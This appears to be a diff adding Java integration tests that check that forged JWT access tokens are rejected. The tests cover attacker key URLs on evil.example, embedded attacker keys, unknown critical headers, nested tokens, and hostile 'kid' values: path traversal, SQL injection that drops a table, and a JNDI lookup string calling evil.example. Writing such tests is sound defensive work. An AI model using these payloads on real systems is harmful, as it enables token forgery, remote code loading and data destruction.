@@ -1,14 +1,18 @@
 package dev.portcullis.token;
 
+import java.net.URI;
 import java.time.Duration;
 import java.util.Base64;
 import java.util.Date;
 import java.util.List;
+import java.util.Set;
 import java.util.UUID;
 
 import com.nimbusds.jose.JOSEObjectType;
 import com.nimbusds.jose.JWSAlgorithm;
 import com.nimbusds.jose.JWSHeader;
+import com.nimbusds.jose.JWSObject;
+import com.nimbusds.jose.Payload;
 import com.nimbusds.jose.crypto.ECDSASigner;
 import com.nimbusds.jose.crypto.MACSigner;
 import com.nimbusds.jose.crypto.factories.DefaultJWSSignerFactory;
@@ -126,6 +130,81 @@ class AccessTokenAttackIntegrationTests extends IntegrationTest {
 	}
 
 	@Test
+	void keyUrlHeadersPointingAtTheAttackersKeysAreIgnored() throws Exception {
+		ECKey attacker = new ECKeyGenerator(Curve.P_256).keyID(signingKey().getKeyID()).generate();
+		for (JWSHeader header : List.of(
+				attackHeader(attacker).jwkURL(URI.create("https://evil.example/jwks.json")).build(),
+				attackHeader(attacker).x509CertURL(URI.create("https://evil.example/cert.pem")).build(),
+				attackHeader(attacker).jwk(attacker.toPublicJWK()).build(),
+				attackHeader(attacker).jwk(attacker.toPublicJWK())
+					.jwkURL(URI.create("file:///etc/passwd"))
+					.keyID(attacker.computeThumbprint().toString())
+					.build())) {
+			SignedJWT forged = new SignedJWT(header, this.genuineClaims);
+			forged.sign(new ECDSASigner(attacker));
+			assertInvalid(forged.serialize());
+		}
+	}
+
+	@Test
+	void kidPathTraversalAndSqlInjectionAreJustUnknownKeys() throws Exception {
+		byte[] emptyFileKey = new byte[32];
+		for (String kid : List.of("../../../../../../dev/null", "/dev/null", "' OR '1'='1",
+				"x'; drop table sessions; --", "%00", "\\evil.example\\share", "${jndi:ldap://evil.example/a}", "")) {
+			SignedJWT forged = new SignedJWT(header(JWSAlgorithm.HS256, kid), this.genuineClaims);
+			forged.sign(new MACSigner(emptyFileKey));
+			assertInvalid(forged.serialize());
+		}
+	}
+
+	@Test
+	void unknownCriticalHeaderIsRejectedEvenWithOurSignature() throws Exception {
+		JWK key = signingKey();
+		SignedJWT jwt = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.ES256).type(new JOSEObjectType("at+jwt"))
+			.keyID(key.getKeyID())
+			.criticalParams(Set.of("exp-policy"))
+			.customParam("exp-policy", "never")
+			.build(), this.genuineClaims);
+		jwt.sign(new DefaultJWSSignerFactory().createJWSSigner(key));
+		assertInvalid(jwt.serialize());
+	}
+
+	@Test
+	void unencodedPayloadIsRejectedEvenWithOurSignature() throws Exception {
+		JWK key = signingKey();
+		JWSHeader header = new JWSHeader.Builder(JWSAlgorithm.ES256).type(new JOSEObjectType("at+jwt"))
+			.keyID(key.getKeyID())
+			.base64URLEncodePayload(false)
+			.criticalParams(Set.of("b64"))
+			.build();
+		String payload = this.genuineClaims.toString();
+		JWSObject jws = new JWSObject(header, new Payload(payload));
+		jws.sign(new DefaultJWSSignerFactory().createJWSSigner(key));
+		assertInvalid(header.toBase64URL() + "." + payload + "." + jws.getSignature());
+		assertInvalid(header.toBase64URL() + ".." + jws.getSignature());
+	}
+
+	@Test
+	void nestedTokensAreRejected() throws Exception {
+		String genuine = this.tokens.get("accessToken").asString();
+		ECKey attacker = new ECKeyGenerator(Curve.P_256).keyID(signingKey().getKeyID()).generate();
+		JWSObject wrappedByAttacker = new JWSObject(attackHeader(attacker).contentType("JWT").build(),
+				new Payload(genuine));
+		wrappedByAttacker.sign(new ECDSASigner(attacker));
+		assertInvalid(wrappedByAttacker.serialize());
+
+		JWK key = signingKey();
+		JWSObject wrappedByUs = new JWSObject(
+				new JWSHeader.Builder(JWSAlgorithm.ES256).type(new JOSEObjectType("at+jwt"))
+					.keyID(key.getKeyID())
+					.contentType("JWT")
+					.build(),
+				new Payload(new PlainJWT(this.genuineClaims).serialize()));
+		wrappedByUs.sign(new DefaultJWSSignerFactory().createJWSSigner(key));
+		assertInvalid(wrappedByUs.serialize());
+	}
+
+	@Test
 	void otherAuthorizationSchemesAreInvalidAndAMissingHeaderIsUnauthenticated() {
 		Problems.expectProblem(this.http.get()
 			.uri("/v1/auth/session")
@@ -143,6 +222,10 @@ class AccessTokenAttackIntegrationTests extends IntegrationTest {
 
 	private JWK signingKey() {
 		return this.keys.keys().block(Duration.ofSeconds(5)).signing().jwk();
+	}
+
+	private static JWSHeader.Builder attackHeader(ECKey attacker) {
+		return new JWSHeader.Builder(JWSAlgorithm.ES256).type(new JOSEObjectType("at+jwt")).keyID(attacker.getKeyID());
 	}
 
 	private static JWSHeader header(JWSAlgorithm algorithm, String kid) {
